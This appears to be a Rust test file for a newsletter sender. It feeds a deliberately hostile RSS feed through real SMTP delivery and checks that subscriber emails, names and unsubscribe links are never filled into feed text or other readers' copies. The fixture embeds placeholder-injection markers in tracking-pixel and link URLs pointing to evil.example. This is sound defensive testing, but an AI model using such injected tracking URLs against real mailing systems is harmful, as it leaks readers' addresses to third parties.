//! A feed written by someone who wants the readers' addresses: its titles, summaries, bodies and
//! links hold every shape the per-reader placeholders ever had. Sent through the real binary to a
//! real SMTP server, with the built-in templates and with a custom one that prints the article
//! body unescaped; no reader's address, name or unsubscribe link lands anywhere but where the
//! template put it, and never in another reader's copy.

use crate::{
    deliver::AS_OF,
    smtp::{Options, SmtpServer},
    support::Publication,
};

/// The private-use marks gazette's placeholders were built from, with indexes and without.
const TRICKS: [&str; 6] = [
    "\u{F8F0}0\u{F8F1}",
    "\u{F8F0}1\u{F8F1}",
    "\u{F8F0}2\u{F8F1}",
    "\u{F8F0}3\u{F8F1}",
    "\u{F8F0}0000000000000000\u{F8F1}",
    "\u{F8F0}",
];

fn hostile_feed() -> String {
    let mut items = String::new();
    for (i, t) in TRICKS.iter().enumerate() {
        items.push_str(&format!(
            "<item><title>Evil title {i} {t}</title><link>https://evil.example/a/{i}?who={t}</link>\
             <guid>https://evil.example/a/{i}</guid><pubDate>Fri, 15 Mar 2024 10:{i:02}:00 -0400</pubDate>\
             <description>Summary {i} {t}</description>\
             <content:encoded><![CDATA[<p>Body {i} {t}</p><img src=\"https://evil.example/pixel.gif?who={t}\" alt=\"x\">\
             <a href=\"https://evil.example/track?u={t}\">more</a>]]></content:encoded></item>\n"
        ));
    }
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<rss version=\"2.0\" \
         xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><title>Evil</title>\
         <link>https://evil.example/</link><description>d</description>\n{items}</channel></rss>\n"
    )
}

fn publication(server: &SmtpServer, templates: bool) -> Publication {
    let p = Publication::with_config("");
    p.write("evil.xml", &hostile_feed());
    p.write("list.csv", "email,name,lists,city\nann@example.org,Ann Reader,,Oslo\nbob@example.org,Bob Reader,,Lima\n");
    let templates = if templates { "[templates]\ndir = \"templates\"\n" } else { "" };
    p.write(
        "gazette.toml",
        &format!(
            "[publication]\nname = \"Mirror\"\nfrom = \"Mirror <m@example.org>\"\nbase_url = \"https://news.example.org\"\n\
             timezone = \"America/New_York\"\nlists = [\"weekly\"]\nsubject = \"{{{{ issue.articles.0.title }}}}\"\n\
             [[source]]\nfeed = \"evil.xml\"\n[selection]\nmax_items = 10\n\
             [[list]]\nname = \"weekly\"\nfile = \"list.csv\"\n\
             [delivery]\ntransport = \"smtp\"\nsmtp_url = {:?}\n{templates}",
            server.url()
        ),
    );
    if !templates.is_empty() {
        p.write(
            "templates/email/digest.html",
            "<html lang=\"en\"><body><p>For {{ subscriber.name }} at {{ subscriber.email }} in {{ subscriber.attributes.city }}</p>\
             {% for a in issue.articles %}<h2>{{ a.title }}</h2><p>{{ a.summary }}</p>{{ a.content_html | safe }}\
             <a href=\"{{ a.url }}\">{{ a.url }}</a>{% endfor %}<a href=\"{{ unsubscribe_url }}\">leave</a></body></html>",
        );
        p.write(
            "templates/email/digest.txt",
            "For {{ subscriber.name }} <{{ subscriber.email }}> {{ subscriber.attributes.city }}\n\
             {% for a in issue.articles %}{{ a.title }}\n{{ a.summary }}\n{{ a.url }}\n{% endfor %}{{ unsubscribe_url }}\n",
        );
    }
    p
}

/// Every part a reader sees, decoded: the subject, the text and the HTML.
fn parts(m: &crate::smtp::Received) -> Vec<(String, String)> {
    let parsed = m.parsed();
    vec![
        ("subject".to_owned(), parsed.subject().unwrap_or_default().to_owned()),
        ("text".to_owned(), parsed.body_text(0).map(|t| t.into_owned()).unwrap_or_default()),
        ("html".to_owned(), parsed.body_html(0).map(|t| t.into_owned()).unwrap_or_default()),
    ]
}

/// The runs of text that came from the feed: from each of its words or its host to the end of
/// that text, an attribute or a line.
fn feed_text(body: &str) -> Vec<&str> {
    let mut out = Vec::new();
    for start in ["Evil title ", "Summary ", "Body ", "evil.example"] {
        for (at, _) in body.match_indices(start) {
            let rest = &body[at..];
            let end = rest.find(['<', '>', '"', '\n', ' ']).unwrap_or(rest.len()).max(start.len());
            let end = if start.ends_with(' ') {
                rest[start.len()..].find(['<', '>', '"', '\n']).map_or(rest.len(), |e| e + start.len())
            } else {
                end
            };
            out.push(&rest[..end]);
        }
    }
    out
}

fn check(templates: bool) {
    let server = SmtpServer::start(Options::default());
    let p = publication(&server, templates);
    p.gazette(&["send", "--as-of", AS_OF, "--yes"]).ok();
    let messages = server.messages();
    assert_eq!(messages.len(), 2, "one copy for each reader");
    for m in &messages {
        let me = m.rcpt_tos[0].clone();
        let other = if me.starts_with("ann") { "bob" } else { "ann" };
        let (my_name, my_city) = if me.starts_with("ann") { ("Ann Reader", "Oslo") } else { ("Bob Reader", "Lima") };
        for (part, body) in parts(m) {
            assert!(!body.contains(other), "{me}'s {part} holds another reader's values:\n{body}");
            // The feed's text arrives as the feed wrote it, next to its own words, not filled in.
            if part == "subject" {
                assert!(body.starts_with("Evil title 5"), "{me}'s subject: {body}");
            } else {
                for (i, t) in TRICKS.iter().enumerate() {
                    assert!(body.contains(&format!("Evil title {i} {t}")), "{me}'s {part} lost trick {i}:\n{body}");
                }
            }
            let pieces = feed_text(&body);
            assert!(part == "subject" || pieces.len() >= 18, "the feed's text is found in the {part}: {pieces:?}");
            for piece in pieces {
                assert!(
                    !piece.contains(&me)
                        && !piece.contains("%40")
                        && !piece.contains(my_name)
                        && !piece.contains(my_city)
                        && !piece.contains("unsubscribe"),
                    "{me}'s {part} carries a reader value in the feed's text: {piece}"
                );
            }
        }
        let html = &parts(m)[2].1;
        assert!(html.contains("/unsubscribe/"), "{me}'s own unsubscribe link is still filled in");
        if templates {
            assert!(html.contains(&format!("For {my_name} at {me} in {my_city}")), "{html}");
        }
    }
}

#[test]
fn a_hostile_feed_cannot_pull_reader_values_into_the_default_digest() {
    check(false);
}

#[test]
fn a_hostile_feed_cannot_pull_reader_values_into_a_custom_template() {
    check(true);
}
